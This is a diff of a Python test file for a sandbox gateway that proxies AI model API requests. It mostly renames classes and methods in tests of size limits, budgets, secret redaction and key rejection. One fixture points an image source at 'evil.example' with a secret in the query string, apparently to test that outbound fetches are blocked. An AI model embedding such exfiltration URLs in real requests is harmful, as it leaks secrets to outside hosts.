@@ -5,20 +5,20 @@ from typing import Any
 
 import pytest
 
-from sandbox.gateway.event_reporter import Reports
-from sandbox.gateway.limits import MODEL_WORD_CHARACTERS_MAX
+from sandbox.gateway.event_reporter import EventReporter
+from sandbox.gateway.limits import MODEL_STRING_CHARACTERS_MAX
 from sandbox.gateway.model import request_body
-from sandbox.gateway.model.budget import Admission
+from sandbox.gateway.model.budget import BudgetGate
 from sandbox.gateway.model.dialer import parse_upstream
-from sandbox.gateway.model.protocol import ModelConversation
+from sandbox.gateway.model.protocol import ModelProtocol
 from sandbox.gateway.model.request_policy import ModelPolicy
-from sandbox.interfaces.gateway import Budget, GatewayRules, KeyRefused, ModelUpstream
+from sandbox.interfaces.gateway import Budget, GatewayRules, KeyRejected, ModelUpstream
 from sandbox.model.egress import EgressRule, EgressRules
 from sandbox.model.events import EgressDenied
 
 ISOLATED = GatewayRules()
 OUTBOUND = GatewayRules(egress=EgressRules((EgressRule("files.example.org"),)))
-FULL = GatewayRules(egress=EgressRules(is_full=True))
+FULL = GatewayRules(egress=EgressRules(is_unrestricted=True))
 TASK_KEY, SERVER_KEY = "task-key-of-this-task", "sk-the-servers-own"
 IMAGE = {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AAAA"}}
 BY_URL = {"type": "image", "source": {"type": "url", "url": "https://evil.example/?q=secret"}}
@@ -29,19 +29,19 @@ class Model:
 
     def __init__(self, rules: GatewayRules, redact=str) -> None:
         self.told: list = []
-        self._reports = Reports(self.told.append, lambda: 0.0, redact)
-        self._admission = Admission(rules, self._reports)
+        self._reports = EventReporter(self.told.append, lambda: 0.0, redact)
+        self._admission = BudgetGate(rules, self._reports)
 
-    def conversation(self) -> ModelConversation:
+    def conversation(self) -> ModelProtocol:
         upstream = parse_upstream(ModelUpstream("https://up.example", api_key=SERVER_KEY))
-        return ModelConversation(ModelPolicy(TASK_KEY, 8123), self._admission, upstream, self._reports, 8123)
+        return ModelProtocol(ModelPolicy(TASK_KEY, 8123), self._admission, upstream, self._reports, 8123)
 
     def ask(self, body: Any, *headers: str, target: str = "/v1/messages?beta=true") -> tuple[int | None, str, bytes]:
         """Status and message of a refusal, and the body that goes on."""
         data = body if isinstance(body, bytes) else json.dumps(body).encode()
         lines = (f"POST {target} HTTP/1.1", "Host: 127.0.0.1:8123", f"X-Api-Key: {TASK_KEY}", *headers)
         head = "\r\n".join((*lines, f"Content-Length: {len(data)}")).encode() + b"\r\n\r\n"
-        reaction = self.conversation().client_sent(head + data)
+        reaction = self.conversation().client_data_received(head + data)
         onward = bytes(reaction.to_upstream)
         if reaction.to_client:
             assert not onward
@@ -348,7 +348,7 @@ def test_what_is_no_request_is_refused(body):
 
 
 def test_a_body_that_takes_far_more_memory_than_it_is_long_is_not_read(monkeypatch):
-    monkeypatch.setattr(request_body, "REQUEST_VALUES_MAX", 1000)
+    monkeypatch.setattr(request_body, "REQUEST_JSON_VALUES_MAX", 1000)
     assert Model(ISOLATED).ask(b'{"model":"m","a":[%s]}' % b",".join([b"{}"] * 498))[0] is None
     assert Model(ISOLATED).ask(b'{"model":"m","a":[%s]}' % b",".join([b"{}"] * 500))[0] == 413
 
@@ -362,7 +362,7 @@ def test_a_model_without_a_price_is_told_without_a_secret_in_its_name():
     assert "The model a[REDACTED] has no price" in told
 
 
-ENDLESS = "x" * (MODEL_WORD_CHARACTERS_MAX + 1)
+ENDLESS = "x" * (MODEL_STRING_CHARACTERS_MAX + 1)
 ENDLESS_WORDS = {
     "model": {"model": ENDLESS},
     "tool": request(tools=[{"type": ENDLESS, "name": "x"}]),
@@ -383,7 +383,7 @@ def test_an_endless_word_is_refused_before_anybody_looks_for_secrets_in_it(name,
     status, told, _ = model.ask(ENDLESS_WORDS[name], target=target)
     assert status in (400, 403)
     assert ENDLESS[:10] not in told
-    assert max(map(len, looked_at)) < MODEL_WORD_CHARACTERS_MAX
+    assert max(map(len, looked_at)) < MODEL_STRING_CHARACTERS_MAX
 
 
 def test_a_word_at_the_bound_is_told():
@@ -456,7 +456,7 @@ def test_what_costs_more_than_the_table_says_is_refused_where_dollars_are_bounde
 @pytest.mark.parametrize("name", ["tools", "Tools"])
 def test_a_tool_of_the_models_servers_without_a_known_fee_is_refused_where_dollars_are_bounded(name, tool):
     in_dollars, in_tokens = (
-        Model(GatewayRules(egress=EgressRules(is_full=True), budget=budget))
+        Model(GatewayRules(egress=EgressRules(is_unrestricted=True), budget=budget))
         for budget in (Budget(usd=1.0), Budget(tokens=1000))
     )
     asked = request(**{name: [{"name": "Bash"}, {"type": tool, "name": "x"}]})
@@ -470,7 +470,7 @@ def test_a_tool_of_the_models_servers_without_a_known_fee_is_refused_where_dolla
 
 @pytest.mark.parametrize("name", HARMLESS)
 def test_what_has_a_known_fee_or_none_passes_where_dollars_are_bounded(name):
-    model = Model(GatewayRules(egress=EgressRules(is_full=True), budget=Budget(usd=1.0)))
+    model = Model(GatewayRules(egress=EgressRules(is_unrestricted=True), budget=Budget(usd=1.0)))
     places = {"user_location": {"type": "approximate", "city": "x"}, "allowed_domains": ["docs.example.org"]}
     servers = {"type": "mcp_toolset", "mcp_server_name": "x", "configs": {"Tool-1": {"enabled": True}}}
     own: list[dict[str, Any]] = [
@@ -495,10 +495,12 @@ def answered(model: Model, *statuses: int) -> list[tuple[int, str]]:
         head = (
             f"POST /v1/messages HTTP/1.1\r\nHost: 127.0.0.1:8123\r\nX-Api-Key: {TASK_KEY}\r\nContent-Length: 2\r\n\r\n"
         )
-        reaction = conversation.client_sent(head.encode() + b"{}")
+        reaction = conversation.client_data_received(head.encode() + b"{}")
         if not reaction.to_client:
             assert reaction.dial
-            reaction = conversation.upstream_sent(f"HTTP/1.1 {status} X\r\nContent-Length: 2\r\n\r\n{{}}".encode())
+            reaction = conversation.upstream_data_received(
+                f"HTTP/1.1 {status} X\r\nContent-Length: 2\r\n\r\n{{}}".encode()
+            )
         answer, _, body = bytes(reaction.to_client).partition(b"\r\n\r\n")
         told.append((int(answer.split(b" ")[1]), body.decode()))
     return told
@@ -511,19 +513,19 @@ def test_a_refused_key_of_the_servers_is_told_once_and_ends_the_asking(status):
     assert [told for told, _ in answers] == [403, 403], "403, because Claude Code asks again for minutes after a 401"
     assert all("refused the server's key" in body for _, body in answers)
     told = f"The model at up.example refused the server's key ({status}); check the key that it has."
-    assert [one for one in model.told if isinstance(one, KeyRefused)] == [KeyRefused(told)]
+    assert [one for one in model.told if isinstance(one, KeyRejected)] == [KeyRejected(told)]
 
 
 def test_a_key_that_was_good_is_not_blamed_for_what_was_asked_for():
     model = Model(ISOLATED)
     assert answered(model, 200, 403, 200) == [(200, "{}"), (403, "{}"), (200, "{}")]
-    assert not [one for one in model.told if isinstance(one, KeyRefused)]
+    assert not [one for one in model.told if isinstance(one, KeyRejected)]
     assert answered(model, 401)[0][0] == 403
-    assert [type(one) for one in model.told].count(KeyRefused) == 1
+    assert [type(one) for one in model.told].count(KeyRejected) == 1
 
 
 @pytest.mark.parametrize("status", [400, 404, 429, 500, 529])
 def test_other_errors_are_claude_codes_to_deal_with(status):
     model = Model(ISOLATED)
     assert answered(model, status, 200) == [(status, "{}"), (200, "{}")]
-    assert not [one for one in model.told if isinstance(one, KeyRefused)]
+    assert not [one for one in model.told if isinstance(one, KeyRejected)]
